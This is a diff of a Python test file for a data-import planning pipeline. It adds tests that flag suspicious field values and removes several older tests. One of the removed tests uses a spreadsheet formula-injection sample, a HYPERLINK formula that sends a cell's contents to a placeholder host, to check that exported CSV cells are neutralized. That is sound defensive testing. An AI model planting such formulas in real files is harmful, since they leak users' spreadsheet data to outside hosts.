@@ -18,6 +18,7 @@ from urllib.parse import urlsplit
 
 import duckdb
 import msgspec
+import pyarrow as pa
 import pytest
 
 from pipelines.cli.console import Reporter
@@ -28,17 +29,17 @@ from pipelines.ledger.store import Ledger
 from pipelines.mapping import load
 from pipelines.plan.make import PlanOptions, PlanResult, make_plan
 from pipelines.plan.model import Plan, PlannedOperation
-from pipelines.plan.outcomes import DIFFERENCE_SCHEMA
+from pipelines.plan.outcomes import DIFFERENCE_SCHEMA, Reason
 from pipelines.plan.summary import PlanStatistics, summary
+from pipelines.plan.suspicious import SuspiciousValues
 from pipelines.push.plan_ledger import PlanLedger
 from pipelines.warehouse import ops
 from pipelines.warehouse.source import DataSource, record_source
 from sources.errors import ExitCode, UsageError
 from sources.files import encoding
-from sources.files.formulas import neutralize, people_rows
+from sources.files.formulas import people_rows
 from sources.kinds import KindName
 from tests.pipelines.bridge import Bridge, bridge, command, pulled
-from tests.sources.files.workbooks import sheet, text, workbook
 
 FEW: dict[str, Any] = {"customers": 6, "orders": 0, "promotions": 1, "price_lists": 1}
 HOST = "http://127.0.0.1:9"
@@ -169,12 +170,6 @@ def test_rows_that_give_different_fields_keep_their_own_and_those_that_may_add_t
     assert {(one.method, one.path == one.target) for one in operations(made)} == {("PATCH", True)}
     assert b'"price":19367.25}' in (made.folder / "operations.jsonl").read_bytes()
     adds_up(made)
-
-
-def test_what_is_known_to_set_travels_with_the_rest(work: Path) -> None:
-    os.environ |= {"SOURCES__LEGACY__STOCK_SEMANTICS": "set", "SOURCES__LEGACY__PRICE_SEMANTICS": "set"}
-    (one,) = operations(variants(work, "1;1001;00038;18,00;7\n"))
-    assert (one.repeatable, one.body) == (True, {"sku": "00038", "price": 18, "stock": 7})
 
 
 def test_only_what_differs_from_the_last_confirmed_is_sent_and_prices_that_jump_are_shown(work: Path) -> None:
@@ -312,20 +307,6 @@ def test_corrected_rejects_have_the_cells_that_were_filled_from_lines_above(work
     assert fates(corrected) == {5: ("rejected", "fill_torn"), 6: ("rejected", "fill_torn")}
 
 
-def test_a_workbook_is_planned_as_a_file_of_text_is(work: Path) -> None:
-    rows = [["Producto", "Variante", "Código", "PVP"], ["1", "1001", "00038", "19367.25"], ["1", "1002", "Ñ", "no"]]
-    cells = (
-        (at, "".join(text(f"{'ABCD'[n]}{at}", cell) for n, cell in enumerate(row))) for at, row in enumerate(rows, 1)
-    )
-    mapping = VARIANTS.replace('"Existencias" = "stock"\n', "").replace('","', '"."')
-    (work / "m.toml").write_text(mapping.replace('thousands = "."', 'thousands = ""'), "utf-8")
-    made = make_plan(PlanOptions("variants", workbook(work, ("Hoja", sheet(*cells))), work / "m.toml"))
-    assert bodies(made) == [{"sku": "00038"}, {"price": 19367.25}]
-    assert fates(made) == {3: ("rejected", "not_a_number")}
-    assert (made.folder / "rejects.csv").read_text("utf-8-sig").splitlines()[1].startswith("1,1002,Ñ,no,3,price,")
-    adds_up(made)
-
-
 def test_a_skipped_line_and_a_rare_value_are_reported_in_the_summary(work: Path) -> None:
     (work / "in.csv").write_text("productId,variantId,sku\n1,1,A\u200b\n1,2,\n1,3,\n", "utf-8")
     made = make_plan(PlanOptions("variants", work / "in.csv"))
@@ -350,14 +331,6 @@ def test_notes_stand_in_their_order(work: Path) -> None:
 
 
 # --- the folder ------------------------------------------------------------------------------------------------------
-
-
-def test_a_file_of_the_plan_that_has_nothing_to_tell_has_its_header(work: Path) -> None:
-    files = files_of(variants(work, "1;11;A;;\n").folder)
-    header = "Producto;Variante;Código;PVP;Existencias;line;field;code;words\r\n"
-    assert files["rejects.csv"].decode("cp1252") == header
-    assert files["unchanged.csv"].decode() == "\ufeffline;outcome;same_as;id;evidence\n"
-    assert files["differences.csv"].decode() == "\ufeffline;outcome;customer_id;field;file_value;platform_value\n"
 
 
 def test_the_same_input_gives_the_same_bytes_anywhere_and_at_any_time(work: Path) -> None:
@@ -409,14 +382,6 @@ def test_what_a_plan_depends_on_makes_another_plan_and_nothing_else_does(work: P
     assert (manifest.host, manifest.environment, manifest.read) == (HOST, "sandbox", None)
 
 
-def test_the_plan_of_another_organization_is_kept_beside(work: Path) -> None:
-    first = variants(work, "1;1;a;;\n")
-    (first.folder / "plan.json").write_text("{}")
-    again, third = (variants(work, "1;1;a;;\n") for _ in range(2))
-    assert (again.folder.name, again.is_new) == (f"{first.folder.name}-2", True)
-    assert (third.folder, third.is_new) == (again.folder, False)
-
-
 @pytest.mark.parametrize(("sample", "opens"), [(1 << 18, 1), (40, 3)])
 def test_an_input_is_opened_to_detect_it_and_for_each_further_pass_beyond_its_head(
     work: Path, sample: int, opens: int
@@ -460,15 +425,6 @@ def test_a_file_that_changes_while_it_is_planned_is_no_plan(
     with pytest.raises(UsageError, match="was changed while it was planned"):
         variants(work, "1;1;a;;\n")
     assert sorted(path.name for path in work.iterdir()) == ["in.csv", "mapping.toml"]
-
-
-def test_a_plan_moves_with_its_project(work: Path) -> None:
-    made = variants(work, "1;1001;00038;18,00;7\n")
-    assert json.loads((made.folder / "plan.json").read_text("utf-8"))["input"]["path"] == "in.csv"
-    moved = work.with_name("moved")
-    shutil.copytree(work, moved)
-    os.environ["DLT_PROJECT_DIR"] = str(moved)
-    assert Plan(moved / made.folder.name).manifest.input.path == str(moved / "in.csv")
 
 
 def test_a_plan_names_the_organization_of_a_warehouse_with_the_data_of_its_host(
@@ -648,19 +604,6 @@ def test_new_customers_that_may_be_known_ones_are_pointed_out(platform: Bridge) 
         assert bool(suspicious(customers(rows, listed))) == change.endswith("'9'"), change
 
 
-def test_documents_without_a_number_are_compared_with_those_at_their_places(platform: Bridge) -> None:
-    several = platform.rows(
-        "SELECT erp_code, email, list(fiscal_name ORDER BY position) FROM raw.customers JOIN"
-        " (SELECT customer_id AS id, fiscal_name, position FROM raw.customers__documents) USING (id)"
-        " GROUP BY ALL HAVING count(*) = 2"
-    )
-    code, email, (first, second) = several[0]
-    mapping = CUSTOMERS.replace('"phone"', '"documents[0].fiscalName"').replace(".number", ".fiscalName")
-    mapping = mapping.replace('NIF" = "documents[0]', 'NIF" = "documents[1]')
-    assert fates(customers(f"{code};;{email};{first};{second}\n", mapping)) == {2: ("exists_same", "")}
-    assert fates(customers(f"{code};;{email};{second};{first}\n", mapping)) == {2: ("exists_differs", "")}
-
-
 def test_rows_of_the_platforms_list_that_were_refused_are_reported(unread: Bridge) -> None:
     unread.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
     unread.pull("customers")
@@ -686,23 +629,6 @@ def test_a_plan_rests_on_the_last_walk_that_was_not_held_back(unread: Bridge) ->
     assert (made.manifest.read.run_id, made.manifest.read.verdict, made.manifest.read.rows) == (
         first.run_id, "complete", 6,
     )  # fmt: skip
-
-
-def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(unread: Bridge) -> None:
-    """A name that somebody typed into the platform, and one in the file."""
-    formula = '=HYPERLINK("http://x.test/?"&A1)'
-    unread.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
-    unread.pull("customers")
-    quoted = formula.replace('"', '""')
-    made = customers(f'E1;Ana;e1@x.es;;\nE1;"{quoted}";other@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\n')
-    alone = customers("E1;Ana;e1@x.es;;\n")
-    (reported, *_) = people_rows(alone.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
-    assert f"'{formula}" in reported["platform_value"]
-    for folder in (made.folder, alone.folder):
-        for path in folder.glob("*.csv"):
-            with path.open(encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline="") as file:
-                for row in csv.reader(file, delimiter="," if path.name == "lines.csv" else ";"):
-                    assert [cell for cell in row if neutralize(cell) != cell] == [], path
 
 
 def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(platform: Bridge) -> None:
@@ -770,17 +696,75 @@ def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
     adds_up(made)
 
 
-@pytest.mark.parametrize("place", ["terminal", "summary.md"])
-def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: Path, place: str) -> None:
+def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: Path) -> None:
     """Without a mapping file, with the choice of passwords made on the command line."""
     (tmp_path / "in.csv").write_text("erpCode,firstName,email\nA,Ana,a@x.es\nB,,\n", "utf-8")
     env, folder = dict(os.environ), tmp_path / "my plan"
     options = ["--passwords", "file", "--notify-customers", "--out", "my plan"]
     done = command("plan", "customers", "in.csv", *options, env=env, cwd=tmp_path)
     assert done.code == 5, done.said
-    text, cwd = (done.out, tmp_path) if place == "terminal" else ((folder / "summary.md").read_text("utf-8"), folder)
-    push, plan_rejects = (shlex.split(line)[1:] for line in text.splitlines() if line.startswith("    orderbridge "))
-    sent = command(*push, env=env, cwd=cwd)
+    of_terminal, of_summary = (
+        [shlex.split(line)[1:] for line in text.splitlines() if line.startswith("    orderbridge ")]
+        for text in (done.out, (folder / "summary.md").read_text("utf-8"))
+    )
+    sent = command(*of_summary[0], env=env, cwd=folder)
     assert "1  confirmed" in sent.out, sent.said
-    again = command(*plan_rejects, "--out", str(tmp_path / "again"), env=env, cwd=cwd)
-    assert (again.code, "1 line rejected" in again.out) == (5, True), again.said
+    for plan_rejects, cwd in ((of_terminal[1], tmp_path), (of_summary[1], folder)):
+        again = command(*plan_rejects, "--out", str(tmp_path / "again"), env=env, cwd=cwd)
+        assert (again.code, "1 line rejected" in again.out) == (5, True), again.said
+
+
+# --- values that are valid but rarely meant --------------------------------------------------------------------------
+
+
+NONE: frozenset[str] = frozenset()
+
+
+def found(name: str, *values: Any, increments: frozenset[str] = NONE, is_sheet: bool = False) -> list[Reason]:
+    """The reasons for values of a field, on lines from 2 on."""
+    texts = [None if value is None else msgspec.json.encode(value).decode() for value in values]
+    lines = pa.array([[line] for line in range(2, 2 + len(texts))])
+    collected = SuspiciousValues(increments, is_sheet=is_sheet)
+    collected.add(pa.table({"lines": lines, "path": ["/p"] * len(texts), name: pa.array(texts, pa.string())}))
+    return collected.reasons()
+
+
+INVISIBLE = ["x\u200b", "\ufeffx", "x\u202ey", "x\x07", "x\x85", "x\u2066y", "x\x1f", "a\u00adb", "\\\x08"]
+DAMAGED: list[tuple[str, str, list[Any], list[Any]]] = [
+    ("firstName", "invisible", INVISIBLE, ["Año – «x»", "line\nline\ttab", "日本", "c:\\b\\f", "\u00a0"]),
+    ("firstName", "mojibake", ["José".encode().decode("cp1252"), "EspaÃ±a", "Cittâ€™", "Nº Âº", "Mu├▒oz"],
+     ["JOÃO", "Âge"]),
+    ("firstName", "lost_letter", ["Mu?oz", "Ana Garc?a", "?lvarez"], ["Jos?", "Who? me", "http://x.es/a?b=1", "¿Qué?"]),
+    ("firstName", "null_word", ["NULL", "\\N", "NaN", "n/a", "(null)"], ["Null", "Nan", "NULL 2", "N", "\\\\N"]),
+    ("sku", "date", ["01-nov", "Nov-11", "1-Sep", "01/11/2026", "2026-11-01"], ["1-11", "11-22-33", "mar-a", "5-NOVA"]),
+    ("email", "not_an_address", ["x", "a@b", "a@b.es, c@d.es", "mailto:a@b.es", "'a@b.es"], ["o'b@x.es", "ñ@ñ.es"]),
+    ("phone", "no_digits", ["France", "–", "S/N"], ["+34 600", "France 12", "٠١"]),
+    ("price", "not_positive", [0, -1.5], [0.01, None]),
+    ("stock", "negative", [-2], [0, None]),
+    ("documents", "document_number_missing",
+     [[{"fiscalName": "Ana"}], [{"number": "", "fiscalName": "Ana"}], [{"number": " "}], [{"number": None}],
+      [{"number": "N1"}, {"fiscalName": 'a"number":"N2'}]],
+     [[{"number": "N1"}, {"number": "N2", "isDefault": True}], [{"number": 'N"1', "fiscalName": "a {b}"}], [], None]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "code", "bad", "good"), DAMAGED, ids=[code for _, code, *_ in DAMAGED])
+def test_texts_and_numbers_that_are_rarely_meant_are_pointed_out(
+    name: str, code: str, bad: list[Any], good: list[Any]
+) -> None:
+    (reason,) = found(name, *bad, *good)
+    assert (reason.field, reason.code, reason.lines) == (name, code, len(bad))
+    assert reason.first == list(range(2, 2 + len(bad)))[:5]
+    assert found(name, *good) == []
+
+
+def test_an_increment_may_be_negative_and_a_price_of_a_sheet_has_few_decimals() -> None:
+    assert found("stock", -2, increments=frozenset({"stock"})) == []
+    assert found("price", 1.234) == []
+    assert [(reason.code, reason.first) for reason in found("price", 1.23, 1.234, is_sheet=True)] == [("decimals", [3])]
+
+
+def test_an_equal_increment_that_is_merged_may_be_meant() -> None:
+    collected = SuspiciousValues(frozenset({"stock"}))
+    collected.add_merged(pa.table({"lines": pa.array([[3], [4]]), "stock": ["3", None], "sku": ["1", "2"]}))
+    assert [(reason.field, reason.code, reason.first) for reason in collected.reasons()] == [("stock", "merged", [3])]
